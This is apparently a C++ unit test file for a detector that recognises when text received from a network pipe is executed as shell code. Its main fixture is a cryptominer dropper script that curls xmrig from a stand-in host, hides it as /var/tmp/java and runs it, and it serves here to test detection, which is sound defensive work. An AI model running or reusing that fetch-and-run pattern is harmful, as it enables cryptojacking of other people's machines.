// SPDX-License-Identifier: Apache-2.0
// Compares text from a net-fed pipe with code: what is recognised, and what must not be.
#include <gtest/gtest.h>

#include <string>
#include <string_view>

#include "davylamp/rules/text_match.h"

namespace davylamp {
namespace {

davy_text_sample sample_of(std::string_view stream)
{
    davy_text_sample sample{};
    davy_text_state state;
    davy_text_begin(&state);
    for (char byte : stream.substr(0, DAVY_SAMPLE_BYTES)) {
        if (byte == '\0')
            break;
        davy_sample_step(&sample, &state, static_cast<std::uint8_t>(byte));
    }
    return sample;
}

bool runs(std::string_view stream, std::string_view code)
{
    davy_text_sample sample = sample_of(stream);
    davy_text_state state;
    davy_text_begin(&state);
    for (char byte : code) {
        davy_match_step(&sample, &state, static_cast<std::uint8_t>(byte));
        if (!davy_match_open(&state))
            break;
    }
    return davy_match_end(&sample, &state);
}

// A command line has a NUL behind each word.
bool is_line_of(std::string_view stream, std::string_view command)
{
    davy_text_sample sample = sample_of(stream);
    davy_text_state state;
    davy_text_begin(&state);
    for (char byte : command)
        davy_match_step(&sample, &state, davy_match_command_byte(static_cast<std::uint8_t>(byte)));
    davy_match_end(&sample, &state);
    return davy_match_command(&state);
}

bool has_line_of(std::string_view stream, std::string_view command)
{
    davy_text_sample sample = sample_of(stream);
    davy_text_state state;
    davy_text_begin(&state);
    for (char byte : command)
        davy_match_step(&sample, &state, davy_match_word_byte(static_cast<std::uint8_t>(byte)));
    davy_match_end(&sample, &state);
    return davy_match_words(&state);
}

const std::string kScript = "#!/bin/bash\nset -e\nWALLET=4ABCDEF\n"
                            "curl -fsSL http://u/xmrig -o /var/tmp/java\n"
                            "chmod +x /var/tmp/java\n/var/tmp/java -c w.conf &\n";

struct Case {
    const char* name;
    std::string stream, code;
    bool expected;
};

const Case kCases[] = {
    {"the whole text", kScript, kScript, true},
    {"without its last newline", kScript, kScript.substr(0, kScript.size() - 1), true},
    {"more behind it", kScript, kScript + "echo done\n", true},
    {"something before it", kScript, "cd /tmp\n" + kScript, true},
    {"one short command", "id > /tmp/x\n", "id > /tmp/x", true},
    {"one line of several", kScript, "chmod +x /var/tmp/java", true},
    {"other blanks", "echo  one\ttwo\n", "echo one two", true},
    {"the stream's end is not known", std::string("echo one two") + '\0' + "rubbish",
     "echo one two", true},
    {"carriage returns", "echo one two three\r\n", "echo one two three", true},

    {"a version in a message", "1.2.3\n", "echo got 1.2.3", false},
    {"a short word", "true\n", "true", false},
    {"a word that goes on", "status-code", "status", false},
    {"a comment and a common line", "#!/bin/bash\nset -euo pipefail\nreal work\n",
     "#!/bin/bash\nset -euo pipefail\nother things altogether\n", false},
    {"data of one's own script", "alpha\nbeta\n", "while read -r l; do echo $l; done", false},
    {"nothing was read", "", "echo one two three", false},
    {"no code", kScript, "", false},
    {"blanks alone", kScript, " \n\t\n", false},
};

TEST(TextMatch, Table)
{
    for (const Case& one : kCases)
        EXPECT_EQ(runs(one.stream, one.code), one.expected) << one.name;
}

TEST(TextMatch, ACommandLineIsALine)
{
    using namespace std::string_literals;
    EXPECT_TRUE(is_line_of(kScript, "chmod\0+x\0/var/tmp/java\0"s));
    EXPECT_FALSE(is_line_of(kScript, "echo\0chmod +x /var/tmp/java\0"s));
    EXPECT_FALSE(is_line_of("one\nhost.example.org\n", "logger\0one\nhost.example.org\0"s));
    EXPECT_FALSE(is_line_of("rm -rf x\n", "rm\0-rf\0x\0"s)) << "too short to prove anything";
}

TEST(TextMatch, AWordMayBeALine)
{
    using namespace std::string_literals;
    EXPECT_TRUE(has_line_of(kScript, "/bin/echo\0chmod +x /var/tmp/java\0"s));
    EXPECT_TRUE(has_line_of(kScript, "printf\0%s\0# mine\nchmod +x /var/tmp/java\0"s));
    EXPECT_FALSE(has_line_of(kScript, "cp\0/var/tmp/java\0/opt/java\0"s));
    EXPECT_FALSE(has_line_of("alpha\nbeta\n", "cp\0template\0alpha\0"s)) << "too short";
}

// An unquoted command substitution: runs of blanks and newlines become one blank.
TEST(TextMatch, FoldedToOneLine)
{
    std::string folded;
    for (char byte : kScript)
        folded += byte == '\n' ? ' ' : byte;
    EXPECT_TRUE(runs(kScript, folded));
}

// What the sample holds of a long stream is enough, wherever the code begins in it.
TEST(TextMatch, LinesOfALongStream)
{
    std::string stream;
    for (int i = 0; i < 100; i++)
        stream += "step number " + std::to_string(i) + " of the installation\n";
    EXPECT_TRUE(runs(stream, "prepare\n" + stream));
    EXPECT_FALSE(runs(stream, "step number one of another installation\nand so on\n"));
}

// Lines count whole; a sample has no room for more than it says.
TEST(TextMatch, SampleStaysWithinItsBounds)
{
    std::string stream;
    for (int i = 0; i < 1000; i++)
        stream += "line " + std::to_string(i) + "\n";
    davy_text_sample sample = sample_of(stream);
    EXPECT_EQ(sample.lines, DAVY_SAMPLE_LINES);
    EXPECT_EQ(sample.size, DAVY_SAMPLE_TEXT);
}

// More blanks than are read hide what follows, on both sides.
TEST(TextMatch, ABlankBeginning)
{
    const std::string blank(DAVY_SAMPLE_BYTES, '\n'), less(DAVY_SAMPLE_BYTES - 1, ' ');
    EXPECT_TRUE(runs(blank + "touch /x\n", blank + "touch /x"));
    EXPECT_TRUE(runs(blank + "touch /x\n", std::string(4000, ' ') + "touch /x"));
    EXPECT_FALSE(runs(blank + "touch /x\n", "touch /x"));
    EXPECT_FALSE(runs(blank + "touch /x\n", less));
    EXPECT_FALSE(runs("touch /x\n", blank + "rm /y"));
    EXPECT_FALSE(is_line_of(blank + "touch /x\n", "touch /x"));
}

} // namespace
} // namespace davylamp
